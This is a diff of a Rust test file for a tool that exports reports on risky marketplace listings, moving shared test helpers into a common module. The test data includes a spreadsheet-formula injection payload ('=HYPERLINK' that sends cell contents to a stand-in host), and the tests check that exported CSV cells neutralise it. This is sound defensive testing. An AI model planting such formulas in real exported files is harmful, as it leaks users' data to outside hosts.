@@ -9,79 +9,16 @@
 //! - `a_link_out_of_the_folder_is_refused`: a symbolic link planted in `--out` is not followed.
 //! - `csv_cells_are_neutralised_and_parse_back`: a `=HYPERLINK(...)` seller name comes out as text.
 
-use std::collections::BTreeMap;
+mod common;
+
 use std::path::{Path, PathBuf};
 use std::process::Command;
 
-use chrono::{DateTime, TimeZone, Utc};
+use common::{day, files, json, params, row};
 use sha2::{Digest, Sha256};
-use soi_model::{Listing, Reason, Scored, Seller, Verdict};
 use soi_report::{cross_border, ReportParams};
 use soi_sqlite::SqliteStore;
 use soi_store::{Store, Tlp};
-
-fn day(m: u32, d: u32) -> DateTime<Utc> {
-    Utc.with_ymd_and_hms(2026, m, d, 9, 30, 0).single().unwrap()
-}
-
-fn row(
-    mkt: &str,
-    seller: (&str, &str, bool),
-    id: &str,
-    risk: f64,
-    codes: &[&str],
-    at: DateTime<Utc>,
-) -> Scored {
-    let (sid, country, cross) = seller;
-    let s = Seller {
-        id: sid.into(),
-        marketplace: mkt.into(),
-        name: Some(format!("Cửa hàng {sid} <b>&")),
-        country: Some(country.into()),
-        ship_from: Some(country.into()),
-        cross_border: cross,
-        ..Default::default()
-    };
-    let reasons = codes
-        .iter()
-        .map(|c| Reason {
-            code: c.to_string(),
-            message: c.to_string(),
-            message_vi: format!("lý do {c}"),
-            field: "description".into(),
-            start: 0,
-            end: 17,
-            evidence: if *c == "blocklisted_domain" {
-                "http://lua-dao.example/pay".into()
-            } else {
-                "zalo 0900 000 101".into()
-            },
-            ..Default::default()
-        })
-        .collect();
-    Scored {
-        listing: Listing {
-            id: id.into(),
-            marketplace: mkt.into(),
-            title: format!("Tin {id} hàng chính hãng"),
-            url: Some(format!("https://{mkt}.example/p/{id}")),
-            observed_at: Some(at),
-            evidence_sha256: Some(hex::encode(Sha256::digest(id.as_bytes()))),
-            seller: Some(s),
-            ..Default::default()
-        },
-        verdict: Verdict {
-            listing_id: id.into(),
-            marketplace: mkt.into(),
-            seller_id: Some(sid.into()),
-            risk,
-            reasons,
-            model: "test".into(),
-            scored_at: at,
-            ..Default::default()
-        },
-    }
-}
 
 async fn known_store(dir: &Path) -> SqliteStore {
     let cn1 = ("cn1", "CN", true);
@@ -107,34 +44,6 @@ async fn known_store(dir: &Path) -> SqliteStore {
         .await
         .unwrap();
     store
-}
-
-fn params(country: Option<&str>) -> ReportParams {
-    ReportParams {
-        from: Utc.with_ymd_and_hms(2026, 11, 1, 0, 0, 0).single().unwrap(),
-        to: Utc.with_ymd_and_hms(2026, 12, 1, 0, 0, 0).single().unwrap(),
-        country: country.map(str::to_string),
-        marketplace: None,
-        min_risk: 0.5,
-        tlp: Tlp::Amber,
-    }
-}
-
-fn files(dir: &Path) -> BTreeMap<String, Vec<u8>> {
-    let mut out = BTreeMap::new();
-    let mut stack = vec![dir.to_path_buf()];
-    while let Some(d) = stack.pop() {
-        for e in std::fs::read_dir(&d).unwrap() {
-            let p = e.unwrap().path();
-            if p.is_dir() {
-                stack.push(p);
-            } else {
-                let rel = p.strip_prefix(dir).unwrap().to_string_lossy().to_string();
-                out.insert(rel, std::fs::read(&p).unwrap());
-            }
-        }
-    }
-    out
 }
 
 const HYPERLINK: &str = "=HYPERLINK(\"http://x/?\"&A1,\"x\")";
@@ -277,10 +186,6 @@ async fn csv_cells_are_neutralised_and_parse_back() {
             assert!(!cell.starts_with(['=', '+', '@', '\t', '\r']), "{cell}");
         }
     }
-}
-
-fn json(path: PathBuf) -> serde_json::Value {
-    serde_json::from_slice(&std::fs::read(path).unwrap()).unwrap()
 }
 
 #[tokio::test]
